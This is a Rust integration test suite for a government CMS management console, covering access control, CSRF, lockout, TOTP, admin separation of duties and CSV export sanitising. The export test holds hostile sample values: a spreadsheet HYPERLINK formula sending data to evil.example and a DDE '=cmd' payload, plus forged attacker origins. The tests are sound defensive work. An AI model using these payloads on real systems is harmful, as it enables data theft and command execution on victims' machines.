//! The management listener's defences: every route declares who may call it and refuses
//! everyone else; cross-origin writes, lockout, one-time TOTP codes, session cookies and
//! endings; the province auditor reads and never writes.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use serde_json::json;
use zhanqun_core::{PlatformRole, SiteRole};
use zhanqun_manage::auth::Access;
use zhanqun_tests::steps::{has_actor, has_outcome};
use zhanqun_tests::{TEST_PASSWORD, TestApp};

const JIAXIAN: &str = "6108280001";

fn concrete(path: &str) -> String {
    path.replace("{id}", "1").replace("{name}", "console.css")
}

#[tokio::test]
async fn every_route_declares_its_access_and_refuses_anonymous_callers() {
    let t = TestApp::spawn().await;
    let (_, specs) = zhanqun_manage::route_table(t.app.clone());
    assert!(specs.len() >= 40, "{} routes", specs.len());
    let anon = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let mut checked = 0;
    for s in &specs {
        if s.access == Access::Public {
            continue;
        }
        let url = format!("http://{}{}", t.manage, concrete(s.path));
        let method = reqwest::Method::from_bytes(s.method.as_bytes()).unwrap();
        let res = anon
            .request(method, &url)
            .json(&json!({}))
            .send()
            .await
            .unwrap();
        let status = res.status().as_u16();
        if s.path.starts_with("/api/") {
            assert_eq!(status, 401, "{} {}", s.method, s.path);
            let body: serde_json::Value = res.json().await.unwrap();
            assert_eq!(body["code"], "unauthenticated", "{} {}", s.method, s.path);
        } else {
            assert_eq!(status, 303, "{} {}", s.method, s.path);
            assert_eq!(
                res.headers()["location"],
                "/login",
                "{} {}",
                s.method,
                s.path
            );
        }
        checked += 1;
    }
    assert!(checked >= 35, "{checked}");
    // An undeclared path is a 404, not a handler.
    let res = anon
        .get(format!("http://{}/api/v1/nothing", t.manage))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 404);

    // The OpenAPI document lists exactly the declared API routes.
    let doc = t.openapi().await;
    assert_eq!(doc["openapi"], "3.1.0");
    for s in specs.iter().filter(|s| s.path.starts_with("/api/v1/")) {
        let op = &doc["paths"][s.path][s.method.to_lowercase()];
        assert!(op["summary"].is_string(), "{} {} missing", s.method, s.path);
    }
}

#[tokio::test]
async fn the_province_auditor_reads_everything_and_changes_nothing() {
    let t = TestApp::spawn().await;
    let f = t.fixture().await;
    let ed = t.account("ed", None).await;
    let column = f.column(&format!("{JIAXIAN}/xwzx/tzgg"));
    t.grant(ed, SiteRole::Editor, f.site(JIAXIAN), Some(column))
        .await;
    let ed = t.login("ed").await;
    let id = ed
        .draft(column.0, json!({"title": "草稿", "body_html": "<p>x</p>"}))
        .await;
    t.account("auditor", Some(PlatformRole::ProvinceAuditor))
        .await;
    let au = t.login("auditor").await;
    // Reads: drafts of any site.
    let r = au.get(&format!("/api/v1/articles/{id}")).await;
    assert_eq!(r.status, 200, "{}", r.json);
    // The console pages read.
    for (path, heading) in [
        ("/", "我的工作"),
        ("/review", "审核队列"),
        ("/sites", "米脂县人民政府"),
        (&format!("/articles/{id}"), "草稿"),
    ] {
        let (status, html) = au.page(path).await;
        assert_eq!(status, 200, "{path}");
        assert!(html.contains(heading), "{path}: {html}");
    }
    // Every mutating route is refused, whatever the body.
    let (_, specs) = zhanqun_manage::route_table(t.app.clone());
    let mut refused = 0;
    for s in &specs {
        // Everyone changes their own password.
        if s.method == "GET"
            || matches!(s.access, Access::Public | Access::Password)
            || s.path.ends_with("password")
        {
            continue;
        }
        let path = s.path.replace("{id}", &id.to_string());
        let method = reqwest::Method::from_bytes(s.method.as_bytes()).unwrap();
        let body = json!({"title": "改", "body_html": "", "action": "submit", "secrecy_confirmed": true, "pinned": true});
        let r = au.send(method, &path, Some(body)).await;
        // A business system's route takes its service token, never a person's session.
        let expected = if s.access == Access::ServiceToken {
            401
        } else {
            403
        };
        assert_eq!(r.status, expected, "{} {}: {}", s.method, s.path, r.json);
        if expected == 403 {
            refused += 1;
        }
    }
    assert!(refused >= 13, "{refused}");
    eprintln!("auditor: {refused} writing routes refused");
    let article = t
        .store
        .article(zhanqun_core::ArticleId(id))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (article.title.as_str(), article.status),
        ("草稿", zhanqun_core::ArticleStatus::Draft)
    );
    let denied = t.store.audit_records(1000, 0).await.unwrap();
    assert!(
        denied
            .iter()
            .filter(|r| r.action == "access.denied" && r.actor == "user:auditor")
            .count()
            >= refused
    );
}

#[tokio::test]
async fn cross_origin_posts_are_refused() {
    let t = TestApp::spawn().await;
    let f = t.fixture().await;
    let ed = t.account("ed", None).await;
    let column = f.column(&format!("{JIAXIAN}/xwzx/tzgg"));
    t.grant(ed, SiteRole::Editor, f.site(JIAXIAN), Some(column))
        .await;
    let ed = t.login("ed").await;
    let url = format!("{}/api/v1/columns/{}/articles", ed.base, column.0);
    let body = json!({"title": "跨站", "body_html": ""});
    let res = ed
        .client
        .post(&url)
        .header("origin", "http://evil.example")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    let j: serde_json::Value = res.json().await.unwrap();
    assert_eq!(j["code"], "cross_origin");
    let res = ed
        .client
        .post(&url)
        .header("sec-fetch-site", "cross-site")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    // A console form from another site too.
    let res = ed
        .client
        .post(format!("{}/columns/{}/new", ed.base, column.0))
        .header("origin", "https://attacker.example")
        .form(&[("title", "跨站"), ("body_html", "")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    assert_eq!(t.store.article_count().await.unwrap(), 0);
    // Same origin passes.
    let origin = ed.base.clone();
    let res = ed
        .client
        .post(&url)
        .header("origin", origin)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);
}

#[tokio::test]
async fn lockout_second_factor_and_session_endings_over_http() {
    let t = TestApp::spawn().await;
    t.account("zhangsan", None).await;
    let anon = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let login = |pw: &'static str, host: Option<&'static str>| {
        let mut req = anon
            .post(format!("http://{}/api/v1/session", t.manage))
            .json(&json!({"username": "zhangsan", "password": pw}));
        if let Some(h) = host {
            req = req.header("host", h);
        }
        req.send()
    };
    // Cookie attributes: plain HTTP gets the relaxed name, whatever the host (the Secure flag
    // follows the real scheme: tests/tests/listeners.rs).
    let res = login(TEST_PASSWORD, None).await.unwrap();
    let cookie = res.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(
        cookie.starts_with("zq_session=")
            && cookie.contains("HttpOnly")
            && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let first: serde_json::Value = res.json().await.unwrap();
    let res = login(TEST_PASSWORD, Some("zhanqun.shaanxi.gov.cn"))
        .await
        .unwrap();
    let cookie = res.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(
        cookie.starts_with("zq_session=") && !cookie.contains("Secure"),
        "{cookie}"
    );
    let second: serde_json::Value = res.json().await.unwrap();
    assert_ne!(
        first["token"], second["token"],
        "a new session id at every login"
    );

    // Password alone does not open the console: the second factor is required.
    let token = first["token"].as_str().unwrap();
    let res = anon
        .get(format!("http://{}/api/v1/me/work", t.manage))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 401);
    let j: serde_json::Value = res.json().await.unwrap();
    assert_eq!(j["code"], "second_factor_required");

    // Enrol, then a code works once only.
    let user = t.login("zhangsan").await;
    let secret = user.totp_secret.clone().unwrap();
    assert_eq!(user.get("/api/v1/me/work").await.status, 200);
    assert_eq!(
        user.send(reqwest::Method::DELETE, "/api/v1/session", None)
            .await
            .status,
        200
    );
    assert_eq!(
        user.get("/api/v1/session").await.status,
        401,
        "logout ends the session"
    );
    let again = user
        .post(
            "/api/v1/session",
            json!({"username": "zhangsan", "password": TEST_PASSWORD}),
        )
        .await;
    assert_eq!(again.json["next"], "totp");
    let now = chrono::Utc::now();
    let used = zhanqun_core::totp::code_at(&secret, now).unwrap();
    let r = user
        .post("/api/v1/session/totp", json!({"code": used}))
        .await;
    assert_eq!(
        (r.status, r.code()),
        (401, "unauthenticated"),
        "the enrolment code is spent: {}",
        r.json
    );
    let next = zhanqun_core::totp::code_at(&secret, now + chrono::Duration::seconds(30)).unwrap();
    let r = user
        .post("/api/v1/session/totp", json!({"code": next}))
        .await;
    assert_eq!(r.status, 200, "{}", r.json);
    let r = user
        .post("/api/v1/session/totp", json!({"code": next}))
        .await;
    assert_eq!(r.status, 401, "the same code twice");
    assert_eq!(user.get("/api/v1/me/work").await.status, 200);

    // Disabling the account ends its sessions.
    t.account("sys", Some(PlatformRole::SystemAdmin)).await;
    let sys = t.login("sys").await;
    let r = sys
        .post(&format!("/api/v1/accounts/{}/disable", user.id), json!({}))
        .await;
    assert_eq!(r.status, 200, "{}", r.json);
    assert_eq!(user.get("/api/v1/me/work").await.status, 401);

    // Lockout: five wrong passwords, then the right one is refused too (429 locked).
    t.account("lisi", None).await;
    for _ in 0..5 {
        let r = anon
            .post(format!("http://{}/api/v1/session", t.manage))
            .json(&json!({"username": "lisi", "password": "wrong-Password-1"}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 401);
    }
    let r = anon
        .post(format!("http://{}/api/v1/session", t.manage))
        .json(&json!({"username": "lisi", "password": TEST_PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 429);
    let j: serde_json::Value = r.json().await.unwrap();
    assert_eq!(j["code"], "locked");
    let records = t.store.audit_records(1000, 0).await.unwrap();
    assert!(records.iter().any(|r| r.action == "login.lockout"));
    assert!(has_outcome(&records, "login.totp", "failure"));
    assert!(has_outcome(&records, "totp.enrol", "success"));
}

#[tokio::test]
async fn an_initial_password_is_changed_before_anything_else() {
    let t = TestApp::spawn().await;
    t.store
        .create_account(&zhanqun_store::NewAccount {
            username: "newbie".into(),
            display_name: "新用户".into(),
            password_hash: zhanqun_core::password::hash(TEST_PASSWORD).unwrap(),
            platform_role: None,
            must_change_password: true,
            unit: None,
        })
        .await
        .unwrap();
    let u = t.login("newbie").await;
    let r = u.get("/api/v1/me/work").await;
    assert_eq!((r.status, r.code()), (403, "password_change_required"));
    let (status, _) = u.page("/").await;
    assert_eq!(status, 303);
    let weak = u
        .post(
            "/api/v1/session/password",
            json!({"current_password": TEST_PASSWORD, "new_password": "password"}),
        )
        .await;
    assert_eq!(
        (weak.status, weak.code()),
        (400, "invalid_input"),
        "{}",
        weak.json
    );
    let wrong = u
        .post(
            "/api/v1/session/password",
            json!({"current_password": "Nope-2026-x", "new_password": "Yulin-2026-Strong"}),
        )
        .await;
    assert_eq!(wrong.status, 400);
    let ok = u
        .post(
            "/api/v1/session/password",
            json!({"current_password": TEST_PASSWORD, "new_password": "Yulin-2026-Strong"}),
        )
        .await;
    assert_eq!(ok.status, 200, "{}", ok.json);
    assert_eq!(u.get("/api/v1/me/work").await.status, 200);
    let records = t.store.audit_records(100, 0).await.unwrap();
    assert_eq!(
        records
            .iter()
            .filter(|r| r.action == "account.password")
            .count(),
        3
    );
}

#[tokio::test]
async fn administrators_pages_follow_the_separation_of_duties() {
    let t = TestApp::spawn().await;
    let f = t.fixture().await;
    t.account("sys", Some(PlatformRole::SystemAdmin)).await;
    t.account("sec", Some(PlatformRole::SecurityAdmin)).await;
    t.account("aud", Some(PlatformRole::AuditAdmin)).await;
    let sys = t.login("sys").await;
    let sec = t.login("sec").await;
    let aud = t.login("aud").await;

    // The system administrator creates an account; its initial password is shown once.
    let (status, html) = sys
        .form(
            "/accounts",
            &[("username", "gxq-editor"), ("display_name", "高新区编辑")],
        )
        .await;
    assert_eq!(status, 200, "{html}");
    assert!(html.contains("gxq-editor") && html.contains("初始密码"));
    let created = t
        .store
        .accounts()
        .await
        .unwrap()
        .into_iter()
        .find(|a| a.username == "gxq-editor")
        .unwrap();
    assert!(created.must_change_password);
    // … but cannot grant, nor read the audit log.
    let (status, _) = sys
        .form(
            &format!("/accounts/{}/grants", created.id),
            &[("role", "editor"), ("site_code", JIAXIAN)],
        )
        .await;
    assert_eq!(status, 403);
    assert_eq!(sys.page("/audit").await.0, 403);

    // The security administrator grants a column by site code and path; a bad path is explained.
    let (status, html) = sec
        .form(
            &format!("/accounts/{}/grants", created.id),
            &[
                ("role", "editor"),
                ("site_code", JIAXIAN),
                ("column_path", "no/such"),
            ],
        )
        .await;
    assert_eq!(status, 400);
    assert!(html.contains("没有栏目"), "{html}");
    let (status, _) = sec
        .form(
            &format!("/accounts/{}/grants", created.id),
            &[
                ("role", "editor"),
                ("site_code", JIAXIAN),
                ("column_path", "xwzx/bmdt"),
            ],
        )
        .await;
    assert_eq!(status, 303);
    let grants = t.store.grants_of(created.id).await.unwrap();
    assert_eq!(grants.len(), 1);
    assert_eq!(
        grants[0].column_id,
        Some(f.column(&format!("{JIAXIAN}/xwzx/bmdt")))
    );
    let (_, html) = sec.page("/accounts").await;
    assert!(
        html.contains("编辑：佳县人民政府 &#x2f; 部门动态"),
        "{html}"
    );
    // 三权分立 in the console too: the system administrator cannot become the auditor.
    let sys_id = sys.id;
    let (status, html) = sec
        .form(
            &format!("/accounts/{sys_id}/role"),
            &[("role", "audit_admin")],
        )
        .await;
    assert_eq!(status, 409);
    assert!(html.contains("三权分立"));
    // The security administrator cannot create accounts.
    assert_eq!(
        sec.form("/accounts", &[("username", "x1"), ("display_name", "x")])
            .await
            .0,
        403
    );

    // The audit administrator reads the log with its chain verified; nobody else does.
    let (status, html) = aud.page("/audit").await;
    assert_eq!(status, 200);
    assert!(
        html.contains("完整") && html.contains("grant.add"),
        "{html}"
    );
    assert_eq!(aud.page("/accounts").await.0, 403);
    let export = aud
        .client
        .get(format!("{}/api/v1/audit/export", aud.base))
        .send()
        .await
        .unwrap();
    assert_eq!(export.status(), 200);
    assert!(
        export
            .text()
            .await
            .unwrap()
            .trim_start_matches('\u{feff}')
            .starts_with("seq,at,actor")
    );
    let records = t.store.audit_records(500, 0).await.unwrap();
    assert!(has_actor(&records, "audit.read", "user:aud"));
    assert!(has_actor(&records, "audit.export", "user:aud"));
    assert!(has_actor(&records, "account.create", "user:sys"));
}

/// Issue 18, rows 15 and 16: a site administrator's grant scoped to a column acted on the whole
/// site, and the system administrator could disable the audit administrator (after which nobody
/// could read the audit log). Both are refused now, in the console and the API.
#[tokio::test]
async fn site_wide_grants_take_no_column_and_no_administrator_removes_another() {
    let t = TestApp::spawn().await;
    t.fixture().await;
    let sys_id = t.account("sys", Some(PlatformRole::SystemAdmin)).await;
    let sec_id = t.account("sec", Some(PlatformRole::SecurityAdmin)).await;
    let aud_id = t.account("aud", Some(PlatformRole::AuditAdmin)).await;
    let auditor = t
        .account("watch", Some(PlatformRole::ProvinceAuditor))
        .await;
    let someone = t.account("someone", None).await;
    let sys = t.login("sys").await;
    let sec = t.login("sec").await;

    // Row 15.
    let (status, html) = sec
        .form(
            &format!("/accounts/{someone}/grants"),
            &[
                ("role", "site_admin"),
                ("site_code", JIAXIAN),
                ("column_path", "xwzx/bmdt"),
            ],
        )
        .await;
    assert_eq!(status, 400, "{html}");
    assert!(html.contains("针对整个网站"), "{html}");
    assert!(t.store.grants_of(someone).await.unwrap().is_empty());
    let (status, _) = sec
        .form(
            &format!("/accounts/{someone}/grants"),
            &[("role", "site_admin"), ("site_code", JIAXIAN)],
        )
        .await;
    assert_eq!(status, 303, "site-wide it is granted");

    // Row 16: the system administrator disables neither of the other two (nor another system
    // administrator); the security administrator demotes none of the three.
    let other_sys = t.account("sys2", Some(PlatformRole::SystemAdmin)).await;
    for target in [aud_id, sec_id, other_sys] {
        let r = sys
            .post(&format!("/api/v1/accounts/{target}/disable"), json!({}))
            .await;
        assert_eq!((r.status, r.code()), (403, "forbidden"), "{}", r.json);
        let (status, html) = sys.form(&format!("/accounts/{target}/disable"), &[]).await;
        assert_eq!(status, 403, "{html}");
        assert!(!t.store.account(target).await.unwrap().unwrap().disabled);
    }
    for target in [aud_id, sys_id] {
        let (status, _) = sec
            .form(&format!("/accounts/{target}/role"), &[("role", "")])
            .await;
        assert_eq!(status, 403);
        assert!(
            t.store
                .account(target)
                .await
                .unwrap()
                .unwrap()
                .platform_role
                .is_some()
        );
    }
    // Other accounts as before: the province auditor's role can be removed, anyone else disabled.
    let (status, _) = sec
        .form(&format!("/accounts/{auditor}/role"), &[("role", "")])
        .await;
    assert_eq!(status, 303);
    let r = sys
        .post(&format!("/api/v1/accounts/{someone}/disable"), json!({}))
        .await;
    assert_eq!(r.status, 200, "{}", r.json);
    let records = t.store.audit_records(200, 0).await.unwrap();
    assert!(has_outcome(&records, "account.disable", "failure"));
}

/// Issue 18, row 12: a client's `X-Request-Id` went verbatim into the audit log, and the audit
/// export (like every CSV export) wrote cells that a spreadsheet runs as formulas — the request
/// id, a rejection reason. Now an unfit request id is replaced by the server's own, and every
/// exported cell that could start a formula is quoted.
#[tokio::test]
async fn exports_run_no_formulas_and_request_ids_are_plain_tokens() {
    let t = TestApp::spawn().await;
    let f = t.fixture().await;
    let jx = f.site(JIAXIAN);
    let column = f.column(&format!("{JIAXIAN}/xwzx/tzgg"));
    let editor = t.account("tz-editor", None).await;
    let reviewer = t.account("tz-reviewer", None).await;
    t.grant(editor, SiteRole::Editor, jx, Some(column)).await;
    t.grant(reviewer, SiteRole::Reviewer, jx, None).await;
    t.account("aud", Some(PlatformRole::AuditAdmin)).await;
    let ed = t.login("tz-editor").await;
    let rv = t.login("tz-reviewer").await;
    let aud = t.login("aud").await;

    let created = ed
        .post(
            &format!("/api/v1/columns/{}/articles", column.0),
            json!({"title": "=1+1 通知", "body_html": "<p>正文</p>"}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.json);
    let id = created.json["id"].as_i64().unwrap();
    let r = ed.submit(id).await;
    assert_eq!(r.status, 200, "{}", r.json);

    // A hostile request id is not echoed and not kept; the rejection reason is a formula.
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
    let reason = "=cmd|' /C calc'!A0";
    let res = rv
        .client
        .post(format!("{}/api/v1/articles/{id}/transitions", rv.base))
        .header("x-request-id", hostile)
        .json(&json!({"action": "reject", "reason": reason}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let echoed = res.headers()["x-request-id"].to_str().unwrap().to_string();
    assert_ne!(echoed, hostile);
    assert!(zhanqun_core::sanitize::request_id_ok(&echoed), "{echoed}");
    // A plain one is the caller's to choose, and is kept.
    let res = ed
        .client
        .post(format!("{}/api/v1/articles/{id}/transitions", ed.base))
        .header("x-request-id", "trace-42.a_b")
        .json(&json!({"action": "submit", "secrecy_confirmed": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["x-request-id"], "trace-42.a_b");

    let records = t.store.audit_records(500, 0).await.unwrap();
    let reject = records
        .iter()
        .find(|r| r.action.ends_with("reject"))
        .expect("the rejection is audited");
    assert_eq!(reject.request_id.as_deref(), Some(echoed.as_str()));
    assert!(
        records
            .iter()
            .any(|r| r.request_id.as_deref() == Some("trace-42.a_b"))
    );

    let export = aud
        .client
        .get(format!("{}/api/v1/audit/export", aud.base))
        .send()
        .await
        .unwrap();
    assert_eq!(export.status(), 200);
    let text = export.text().await.unwrap();
    let mut rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut found = false;
    for row in rows.records() {
        let row = row.unwrap();
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
                "a cell starts a formula: {cell:?}"
            );
            found |= cell == format!("'{reason}");
        }
    }
    assert!(found, "the reason is exported, quoted: {text}");
    assert!(!text.contains("evil.example"), "{text}");
}

/// Issue 18, row 18: a bad path or query parameter on the API was answered with axum's English
/// plain text. Now the API answers in its JSON shape with a stable code and a Chinese message,
/// and the console with its Chinese error page.
#[tokio::test]
async fn bad_path_and_query_parameters_are_answered_in_our_own_words() {
    let t = TestApp::spawn().await;
    let f = t.fixture().await;
    let admin = t.account("jx-admin", None).await;
    t.grant(admin, SiteRole::SiteAdmin, f.site(JIAXIAN), None)
        .await;
    let u = t.login("jx-admin").await;
    for path in [
        "/api/v1/articles/abc",
        "/api/v1/articles/99999999999999999999999",
        "/api/v1/articles/-1.5/revisions",
        "/api/v1/stats/sites/x/figures",
    ] {
        let r = u.get(path).await;
        assert_eq!(
            (r.status, r.code()),
            (400, "invalid_input"),
            "{path}: {}",
            r.json
        );
        let message = r.json["message"].as_str().unwrap_or_default();
        assert!(message.contains("地址中的参数"), "{path}: {message}");
    }
    let r = u
        .post("/api/v1/reprint/deliveries/abc/approve", json!({}))
        .await;
    assert_eq!((r.status, r.code()), (400, "invalid_input"), "{}", r.json);
    let created = u
        .post(
            &format!(
                "/api/v1/columns/{}/articles",
                f.column(&format!("{JIAXIAN}/xwzx/tzgg")).0
            ),
            json!({"title": "通知", "body_html": "<p>正文</p>"}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.json);
    let id = created.json["id"].as_i64().unwrap();
    let r = u
        .get(&format!("/api/v1/articles/{id}/diff?from=one&to=2"))
        .await;
    assert_eq!((r.status, r.code()), (400, "invalid_input"), "{}", r.json);
    let message = r.json["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("查询参数有误") && message.contains("from"),
        "{message}"
    );
    // The console: its own error page, in Chinese.
    let (status, html) = u.page("/sites/abc/media").await;
    assert_eq!(status, 400);
    assert!(html.contains("地址中的参数"), "{html}");
    // A posted form that does not fit (letters in a number field, a field left out): the same
    // Chinese page naming what to fix, not axum's English 422.
    let backfill = format!("/reprint/sites/{}/backfill", f.site(JIAXIAN).0);
    for fields in [
        vec![("subscription", "1"), ("days", "七天")],
        vec![("subscription", "1")],
    ] {
        let (status, html) = u.form(&backfill, &fields).await;
        assert_eq!(status, 400, "{fields:?}: {html}");
        assert!(html.contains("表单内容有误"), "{fields:?}: {html}");
        assert!(!html.contains("Failed to deserialize"), "{html}");
    }
}

/// Issue 19: account creation had two rule sets — the console required a name, the API did not.
/// Now the store decides for both.
#[tokio::test]
async fn an_account_needs_a_name_whichever_way_it_is_made() {
    let t = TestApp::spawn().await;
    t.account("sys", Some(PlatformRole::SystemAdmin)).await;
    let sys = t.login("sys").await;
    for name in ["", "   ", "名\u{7}字"] {
        let r = sys
            .post(
                "/api/v1/accounts",
                json!({"username": "nameless", "display_name": name, "password": "Zq-7kd!wp2-mN4x"}),
            )
            .await;
        assert_eq!(
            (r.status, r.code()),
            (400, "invalid_input"),
            "{name:?}: {}",
            r.json
        );
        let (status, html) = sys
            .form(
                "/accounts",
                &[("username", "nameless"), ("display_name", name)],
            )
            .await;
        assert_eq!(status, 400, "{name:?}");
        assert!(html.contains("姓名"), "{html}");
    }
    let r = sys
        .post(
            "/api/v1/accounts",
            json!({"username": "named", "display_name": "张三", "password": "Zq-7kd!wp2-mN4x"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.json);
}
